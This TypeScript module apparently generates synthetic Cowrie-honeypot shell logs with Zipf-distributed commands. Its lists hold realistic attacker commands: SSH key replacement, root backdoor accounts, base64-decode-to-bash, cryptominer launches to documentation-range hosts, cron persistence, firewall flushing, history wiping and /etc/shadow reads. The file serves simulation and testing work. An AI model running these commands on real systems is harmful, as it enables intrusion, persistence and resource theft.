import { type Random, type TokenSource, WeightedIndex, zipfWeights } from './random.ts'
import { makeText, type Text } from './text.ts'

/** A shell line, and the part of it that Cowrie does not know, if any. */
export type ShellCommand = {
  readonly input: Text
  readonly failed: Text | undefined
}

/** The loud ones, in order of frequency; `!` marks what Cowrie answers with "command not found". */
const COMMON: readonly string[] = [
  'uname -a',
  'uname -s -v -n -r -m',
  'sh',
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
  'cat /proc/cpuinfo | grep name | wc -l',
  'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
  "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  'ls -lh $(which ls)',
  'which ls',
  '!enable',
  '!system',
  '!shell',
  'crontab -l',
  'w',
  'uname -m',
  'cat /proc/cpuinfo | grep model | grep name | wc -l',
  'top',
  'uname',
  "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
  'whoami',
  'lscpu | grep Model',
  'exit',
  'ls',
  'pwd',
  'id',
  '/bin/busybox ECCHI',
  '!linuxshell',
  'cat /etc/passwd',
  '/ip cloud print',
  'ps aux',
  'ifconfig',
  'ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*',
  "ps -ef | grep '[Mm]iner'",
  'locate D877F783D5D3EF8Cs',
  'echo Hi | cat -n',
  'cat /proc/mounts; /bin/busybox VDOSS',
  'cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox VDOSS',
  'tftp; wget; /bin/busybox VDOSS',
  'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s',
  'free -m',
  'df -h',
  'netstat -tulpn',
  'cat /etc/os-release',
  'nproc',
  'history -c',
  'unset HISTFILE',
  'ls -la',
  'cd /tmp',
  'cat /etc/shadow',
  "!lspci | egrep VGA | grep -c 'NVIDIA'",
  "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'",
  '>/tmp/.ptmx && cd /tmp/',
  '>/var/.ptmx && cd /var/',
  '>/dev/.ptmx && cd /dev/',
  '/bin/busybox rm -rf .nippon; cat .human; /bin/busybox MIRAI',
  'rm .s; exit',
  'uptime',
  'last',
  'ip addr',
  'arp -a',
  'cat /etc/hosts',
  'export HISTSIZE=0; export HISTFILE=/dev/null',
  'chmod 777 /tmp/x86',
  'ps aux | grep -v grep | grep -i kdevtmpfsi',
  'passwd',
  'bash',
  'sudo -l',
  'clear',
  'echo 1 && cat /bin/echo',
  'iptables -F',
  'systemctl stop firewalld',
  'mkdir /tmp/.X19-unix',
  '!nvidia-smi',
  '!apt update',
  'cat /proc/uptime 2 > /dev/null | cut -d. -f1',
  'export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); cpus=$( (nproc || /usr/bin/nproc || grep -c "^processor" /proc/cpuinfo) 2>/dev/null | head -1); cpu_model=$( (grep -m1 -E "model name|Hardware" /proc/cpuinfo | cut -d: -f2- | sed \'s/^ *//\') 2>/dev/null); echo "UNAME:$uname"; echo "ARCH:$arch"; echo "UPTIME:$uptime"; echo "CPUS:$cpus"',
]

/** The many: one of each is made over and over with other words. */
const PATTERNS: readonly string[] = [
  "echo 'root:{WORD}{N}' | chpasswd",
  'cat /proc/{N}/cmdline',
  'kill -9 {N}',
  'ls -la /home/{NAME}',
  'cd {DIR} && ls -la',
  'cat {DIR}/{NAME}.conf',
  'rm -rf {DIR}/{NAME}',
  'chmod +x {DIR}/{NAME}{N}; {DIR}/{NAME}{N}',
  'mkdir -p {DIR}/.{NAME} && cd {DIR}/.{NAME}',
  '!./{NAME}.{ARCH} {WORD}.{ARCH}',
  '/bin/busybox {TAG}',
  '/bin/busybox cat /proc/self/exe || cat /proc/self/exe; /bin/busybox {TAG}',
  'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {NAME}{N}',
  'ping -c {N} 203.0.113.{B}',
  'scp {NAME}@198.51.100.{B}:{DIR}/{NAME} .',
  'ssh {NAME}@203.0.113.{B} -p {N}',
  'echo "{BASE64}" | base64 --decode | bash',
  'nohup {DIR}/{NAME} -o 203.0.113.{B}:{N} -u {WORD}.{NAME} -p x -k --donate-level=1 > /dev/null 2>&1 &',
  '(crontab -l; echo "*/{N} * * * * {DIR}/.{NAME} > /dev/null 2>&1") | crontab -',
  'echo -ne "{HEX}" >> {DIR}/{NAME}; chmod 777 {DIR}/{NAME}',
  'mv {DIR}/{NAME} {DIR}/{WORD}; sed -i "s/{NAME}/{WORD}/g" {DIR}/{WORD}',
  '!{NAME} --version',
  'find {DIR} -name "{NAME}*" -type f -exec rm -f {} +',
]

const WORDS =
  'update sys kworker dbus net auth core miner xmr probe agent cron log cache shadow boot watch node proxy relay scan'.split(
    ' ',
  )
const DIRS = [
  '/tmp',
  '/var/run',
  '/mnt',
  '/root',
  '/dev/shm',
  '/var/tmp',
  '/usr/bin',
  '/etc/cron.d',
]
const ARCHS = ['x86', 'mips', 'mpsl', 'arm', 'arm5', 'arm7', 'ppc', 'sh4', 'i686']
const LOWER = 'abcdefghijklmnopqrstuvwxyz'
const BASE64 = `${LOWER}${LOWER.toUpperCase()}0123456789+/`

const POOL = 8_000
const UNIQUE_SHARE = 0.03
const LONG_EVERY = 40 // one unique line in so many is of several kilobytes

/** Shell lines: Zipf-shaped from a fixed pool, and a long tail of lines typed once. */
export class CommandPool {
  readonly #commands: readonly ShellCommand[]
  readonly #ranks: WeightedIndex
  readonly #tokens: TokenSource
  #uniqueCount = 0

  constructor(random: Random, tokens: TokenSource) {
    this.#tokens = tokens
    const lines = new Set(COMMON.map((line) => fill(line, random)))
    while (lines.size < POOL) lines.add(fill(random.pick(PATTERNS), random))
    this.#commands = [...lines].map(shellCommand)
    this.#ranks = new WeightedIndex(zipfWeights(this.#commands.length, 1.05, 6))
  }

  pick(random: Random): ShellCommand {
    if (random.chance(UNIQUE_SHARE)) return this.#once(random)
    return this.#commands[this.#ranks.pick(random)] as ShellCommand // as many ranks as commands
  }

  /** A line with twelve hex digits that come once, in a shape that no line of the pool has. */
  #once(random: Random): ShellCommand {
    this.#uniqueCount += 1
    const serial = this.#uniqueCount
    const token = this.#tokens.token(serial)
    if (serial % LONG_EVERY === 0) {
      const length = random.between(600, 6_000)
      const blob = token + random.text(8, BASE64).repeat(Math.ceil(length / 8))
      return once(`echo ${blob}== | base64 -d > /tmp/.${token}; sh /tmp/.${token}`)
    }
    switch (serial % 5) {
      case 0:
        return once(`cd /tmp && chmod 777 ${token} && ./${token}; rm -rf ${token}`)
      case 1:
        return once(`echo ${token} > /var/tmp/.probe && cat /var/tmp/.probe`)
      case 2:
        return once(`grep -rl ${token} /etc 2>/dev/null | head -n 3`)
      case 3:
        return once(`export SESSION_ID=${token}; bash -c 'echo $SESSION_ID'`)
      default: {
        const line = `./${token} -d`
        return { input: makeText(line, { unique: true }), failed: makeText(line, { unique: true }) }
      }
    }
  }
}

function once(line: string): ShellCommand {
  return { input: makeText(line, { unique: true }), failed: undefined }
}

function shellCommand(marked: string): ShellCommand {
  const isUnknown = marked.startsWith('!')
  const input = makeText(isUnknown ? marked.slice(1) : marked)
  if (isUnknown) return { input, failed: input }
  // Cowrie reports the one part it does not know, not the line.
  return { input, failed: marked.includes('lockr') ? makeText('lockr -ia .ssh') : undefined }
}

function fill(pattern: string, random: Random): string {
  return pattern.replace(/\{([A-Z0-9]+)\}/g, (_, blank: string) => {
    switch (blank) {
      case 'KEY':
        return `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${random.text(334, BASE64)}== rsa-key`
      case 'NAME':
        return random.text(random.between(4, 7), LOWER)
      case 'WORD':
        return random.pick(WORDS)
      case 'DIR':
        return random.pick(DIRS)
      case 'ARCH':
        return random.pick(ARCHS)
      case 'TAG':
        return random.text(5, LOWER).toUpperCase()
      case 'BASE64':
        return `${random.text(4 * random.between(10, 100), BASE64)}`
      case 'HEX':
        return Array.from(
          { length: random.between(16, 60) },
          () => `\\x${random.text(2, '0123456789abcdef')}`,
        ).join('')
      case 'B':
        return String(random.between(1, 254))
      default:
        return String(random.between(2, 9_999))
    }
  })
}
